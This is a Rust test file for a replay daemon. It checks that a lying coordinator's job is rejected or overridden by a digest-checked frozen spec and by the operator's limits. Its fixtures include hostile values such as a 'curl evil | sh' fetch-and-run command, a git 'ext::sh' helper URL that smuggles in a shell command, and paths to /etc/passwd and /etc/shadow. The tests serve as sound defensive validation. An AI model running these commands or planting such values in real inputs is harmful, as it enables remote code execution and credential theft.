//! What the daemon makes of a job: an honest one becomes a replay, and one of a
//! coordinator that lies becomes nothing that the operator did not allow.

use std::fs;
use std::path::Path;

use protocol::limits::Bytes;
use protocol::{Code, ReplaySpec, Sha256Digest};
use replay_runner::daemon::config::{Config, load};
use replay_runner::daemon::job::Job;
use replay_runner::failure::Failure;
use serde_json::{Value, json};

use crate::coordinator::empty_job;

const PATCH: &str = "diff --git a/src/a b/src/a\n--- a/src/a\n+++ b/src/a\n@@ -1 +1 @@\n-a\n+b\n";

fn config(more: &str) -> Config {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("v.yaml");
    fs::write(&path, format!("coordinator_url: https://c.example\n{more}")).unwrap();
    load(&path).unwrap().config
}

/// A job with a patch, edited.
fn job(edit: impl FnOnce(&mut Value)) -> Value {
    let mut job = empty_job();
    job["submission"]["patch"] = json!(PATCH);
    edit(&mut job);
    job
}

fn read(job: &Value) -> Result<Job, Failure> {
    Job::read(&job.to_string(), &config(""))
}

/// A job with a frozen spec, as this project's coordinator serves it; `edit`
/// changes the spec before its digest is taken.
fn frozen(edit: impl FnOnce(&mut ReplaySpec)) -> Value {
    let mut spec: ReplaySpec = serde_json::from_value(json!({
        "spec_version": 1, "repository": "https://git.example/task.git",
        "base_commit": "0123456789012345678901234567890123456789",
        "patch": {"sha256": Sha256Digest::of(PATCH.as_bytes()), "size_bytes": PATCH.len()},
        "private_inputs": [], "image": "", "commands": {"benchmark": "make bench"},
        "env": {"TOKEN": "a-secret-value"},
        "patch_rules": {"allowed_paths": ["src/"], "protected_paths": [], "max_bytes": 262_144,
            "max_files": 10_000, "max_decoded_bytes": 1 << 24, "allow_binary": false,
            "allow_executable": false},
        "result_path": "result.json", "outputs": [],
        "metrics": [{"name": "loss", "direction": "minimize", "range": {"min": "0.10"}}],
        "tolerance": "0.250", "repeats": 1, "time_budget_seconds": 60, "setup_network": false,
        "limits": {},
    }))
    .unwrap();
    edit(&mut spec);
    job(|job| {
        job["spec"] = serde_json::to_value(&spec).unwrap();
        job["spec_digest"] = json!(spec.digest());
    })
}

#[test]
fn a_job_of_an_older_coordinator_is_a_replay() {
    let job = read(&job(|_| ())).unwrap();
    assert_eq!(job.request.task.metric_name, "loss");
    assert_eq!(
        job.request.base_ref.as_deref(),
        Some("0123456789012345678901234567890123456789")
    );
    assert_eq!(
        job.request.submission.patch.unwrap().text(),
        PATCH.as_bytes()
    );
    assert!(job.frozen.is_none());
}

#[test]
fn a_frozen_spec_decides_over_what_stands_beside_it_digit_by_digit() {
    let mut wire = frozen(|_| ());
    wire["replay_spec"]["benchmark_command"] = json!("curl evil | sh");
    wire["replay_spec"]["metric_tolerance"] = json!(0.4);
    let job = read(&wire).unwrap();
    assert_eq!(job.request.task.benchmark_command, "make bench");
    assert_eq!(job.request.task.metric_tolerance.unwrap().as_str(), "0.250");
    assert_eq!(job.request.task.metric_range.min.unwrap().as_str(), "0.10");
}

/// What a coordinator that lies sends, and what becomes of it.
#[test]
#[expect(clippy::too_many_lines, reason = "a table")]
fn a_lying_coordinator_gets_an_error_and_no_replay() {
    let protocol = Code::CoordinatorProtocol;
    let table: Vec<(&str, Value, Code)> = vec![
        (
            "another digest",
            edit(frozen(|_| ()), |job| {
                job["spec_digest"] = json!("0".repeat(64));
            }),
            protocol,
        ),
        (
            "no digest",
            edit(frozen(|_| ()), |job| job["spec_digest"] = Value::Null),
            protocol,
        ),
        (
            "another patch",
            edit(frozen(|_| ()), |job| {
                job["submission"]["patch"] = json!(PATCH.replace("+b", "+c"));
            }),
            protocol,
        ),
        (
            "a patch that the spec has not",
            frozen(|spec| spec.patch = None),
            protocol,
        ),
        (
            "an artifact that the spec has not",
            edit(frozen(|_| ()), |job| {
                job["submission"]["artifact_uri"] = json!("https://a.example/x");
                job["submission"]["artifact_sha256"] = json!("0".repeat(64));
                job["submission"]["artifact_size_bytes"] = json!(5);
            }),
            protocol,
        ),
        (
            "another repository",
            edit(frozen(|_| ()), |job| {
                job["replay_spec"]["repository"] = json!("https://evil.example/x");
            }),
            protocol,
        ),
        (
            "private inputs that the spec has not",
            edit(frozen(|_| ()), |job| {
                job["replay_spec"]["private_inputs"] = json!([{"name": "x", "uri": "https://a.example/x", "sha256": "0".repeat(64), "size_bytes": 1}]);
            }),
            protocol,
        ),
        (
            "a version of the future",
            frozen(|spec| spec.spec_version = 2),
            protocol,
        ),
        (
            "no repository",
            job(|job| job["replay_spec"]["repository"] = Value::Null),
            protocol,
        ),
        (
            "a spec that is none",
            job(|job| job["spec"] = json!("x")),
            protocol,
        ),
        (
            "no replay_spec",
            job(|job| drop(job.as_object_mut().unwrap().remove("replay_spec"))),
            protocol,
        ),
        (
            "a repository on this host",
            job(|job| job["replay_spec"]["repository"] = json!("/root")),
            Code::CheckoutSchemeNotAllowed,
        ),
        (
            "the same as an address",
            job(|job| job["replay_spec"]["repository"] = json!("file:///root")),
            Code::CheckoutSchemeNotAllowed,
        ),
        (
            "by ssh",
            job(|job| job["replay_spec"]["repository"] = json!("ssh://git@evil.example/x")),
            Code::CheckoutSchemeNotAllowed,
        ),
        (
            "by git's own helpers",
            job(|job| job["replay_spec"]["repository"] = json!("ext::sh -c touch% /tmp/x")),
            Code::CheckoutSchemeNotAllowed,
        ),
        (
            "a directory",
            job(|job| job["replay_spec"]["repository"] = json!(".")),
            Code::CheckoutSchemeNotAllowed,
        ),
        (
            "a path out of the work tree",
            job(|job| job["replay_spec"]["result_path"] = json!("../../etc/passwd")),
            Code::SpecInvalid,
        ),
        (
            "an absolute path",
            job(|job| job["replay_spec"]["result_path"] = json!("/etc/passwd")),
            Code::SpecInvalid,
        ),
        (
            "a private input with a path",
            job(|job| {
                job["replay_spec"]["private_inputs"] = json!([{"name": "../x", "uri": "https://a.example/x", "sha256": "0".repeat(64), "size_bytes": 1}]);
            }),
            Code::SpecInvalid,
        ),
        (
            "a year of time",
            job(|job| job["replay_spec"]["time_budget_seconds"] = json!(31_536_000)),
            Code::SpecInvalid,
        ),
        (
            "a negative time",
            job(|job| job["replay_spec"]["time_budget_seconds"] = json!(-1)),
            Code::SpecInvalid,
        ),
        (
            "a million repeats",
            job(|job| job["replay_spec"]["repeats"] = json!(1_000_000)),
            Code::SpecInvalid,
        ),
        (
            "limits beyond sense",
            frozen(|spec| spec.limits.memory = Bytes::gib(1 << 20)),
            Code::SpecInvalid,
        ),
        (
            "an environment that loads a library",
            job(|job| job["replay_spec"]["validator_benchmark_env"] = json!({"A\u{0}B": "x"})),
            Code::SpecInvalid,
        ),
        (
            "nothing submitted",
            job(|job| job["submission"]["patch"] = json!(" \n")),
            Code::ArtifactMissing,
        ),
        (
            "an artifact over plain http",
            job(|job| job["submission"]["artifact_uri"] = json!("http://a.example/x")),
            Code::ArtifactSchemeNotAllowed,
        ),
        (
            "an artifact from a file",
            job(|job| job["submission"]["artifact_uri"] = json!("file:///etc/shadow")),
            Code::ArtifactSchemeNotAllowed,
        ),
    ];
    for (what, job, code) in table {
        let failure = read(&job).expect_err(what);
        assert_eq!(failure.code, code, "{what}: {failure}");
    }
}

fn edit(mut job: Value, edit: impl FnOnce(&mut Value)) -> Value {
    edit(&mut job);
    job
}

#[test]
fn the_operators_bounds_hold_whatever_the_task_says() {
    for (bound, edit) in [
        ("replay_sandbox_memory_limit: 64m", json!({"memory": "65m"})),
        ("replay_sandbox_cpus: 1", json!({"cpus": 2})),
        ("replay_sandbox_pids_limit: 64", json!({"pids": 65})),
        (
            "replay_sandbox_workspace_size_bytes: 1048576",
            json!({"workspace": 1_048_577}),
        ),
        (
            "replay_sandbox_result_max_bytes: 1000",
            json!({"result": 1001}),
        ),
    ] {
        let wire = job(|job| job["replay_spec"]["limits"] = edit.clone());
        let failure = Job::read(&wire.to_string(), &config(bound)).expect_err(bound);
        assert_eq!(failure.code, Code::SandboxLimitsUnsatisfiable, "{bound}");
        let key = bound.split(':').next().unwrap();
        assert!(failure.message.contains(key), "{}", failure.message);
    }
    let failure = Job::read(
        &job(|_| ()).to_string(),
        &config("max_time_budget_seconds: 59"),
    )
    .unwrap_err();
    assert_eq!(failure.code, Code::SandboxLimitsUnsatisfiable);
}

#[test]
fn a_task_without_limits_gets_the_operators() {
    let operator = config(
        "replay_sandbox_memory_limit: 3g\nreplay_sandbox_cpus: 2\nreplay_sandbox_image: mine:1",
    );
    let read = Job::read(&job(|_| ()).to_string(), &operator).unwrap();
    assert_eq!(read.request.task.limits.memory, Bytes::gib(3));
    assert_eq!(read.needs.cpus, 2);
    assert_eq!(read.request.task.image.as_deref(), Some("mine:1"));
}

#[test]
fn a_local_repository_needs_the_operators_word() {
    let wire = job(|job| job["replay_spec"]["repository"] = json!("/nonexistent/task"));
    let read = Job::read(&wire.to_string(), &config("allow_local_repositories: true")).unwrap();
    let source = format!("{:?}", read.request.repository.unwrap());
    assert!(
        source.contains(Path::new("/nonexistent/task").to_str().unwrap()),
        "{source}"
    );
}

#[test]
fn secrets_and_the_places_of_private_inputs_leave_no_text() {
    let wire = job(|job| {
        job["replay_spec"]["private_inputs"] = json!([{"name": "x.txt", "uri": "https://held-out.example/x.txt?key=1",
            "sha256": "0".repeat(64), "size_bytes": 1}]);
    });
    let redactor = read(&wire).unwrap().redactor;
    let text = "from held-out.example: https://held-out.example/x.txt?key=1 with a-secret-value";
    assert_eq!(
        redactor.clean(text),
        "from [private]: [private] with [private]"
    );
}

#[test]
fn equal_content_has_an_equal_key_and_measured_time_has_none() {
    let key = |job: &Value| read(job).unwrap().content_key("sha256:1");
    let one = key(&frozen(|_| ()));
    assert!(one.is_some());
    let mut another = frozen(|_| ());
    another["submission"]["id"] = json!("44444444-4444-4444-8444-444444444444");
    another["submission_id"] = another["submission"]["id"].clone();
    assert_eq!(key(&another), one);
    assert_ne!(key(&frozen(|spec| spec.time_budget_seconds = 61)), one);
    assert_ne!(read(&frozen(|_| ())).unwrap().content_key("sha256:2"), one);
    assert_eq!(
        key(&frozen(
            |spec| spec.metrics[0].name = "supervisor.benchmark_seconds".to_owned()
        )),
        None
    );
    assert_eq!(key(&job(|_| ())), None);
}
